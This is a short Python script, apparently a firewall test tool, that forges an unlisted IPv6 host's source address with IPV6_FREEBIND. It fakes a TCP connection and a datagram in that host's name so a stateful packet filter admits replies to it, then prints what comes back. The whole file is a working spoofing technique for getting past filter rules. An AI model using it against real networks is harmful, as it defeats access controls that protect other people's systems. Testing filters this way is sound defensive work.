# SPDX-License-Identifier: MIT
"""established.py ADDRESS PORT: makes a packet filter believe that a host which is not listed has spoken
first, by a connection and a datagram in its name (any address can be bound to by IPV6_FREEBIND) to
ourselves; an answer to it is let through where answers are. Prints what comes back."""
import socket
import sys

IPV6_FREEBIND = 78
address, port = sys.argv[1], int(sys.argv[2])


def in_its_name(kind):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    s.bind((address, port))
    s.settimeout(1)
    return s


listener = socket.create_server(("fd00::100", 4711), family=socket.AF_INET6)
try:
    in_its_name(socket.SOCK_STREAM).connect(("fd00::100", 4711))
except OSError:
    pass # what matters is the packet in answer to it
own = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
own.bind(("fd00::100", 4711))
own.settimeout(1.5)
in_its_name(socket.SOCK_DGRAM).sendto(b"from the host that is not listed", ("fd00::100", 4711))
own.recv(100)
print("spoofed", flush=True)
own.sendto(b"hello", (address, port))
print(own.recv(100).decode())
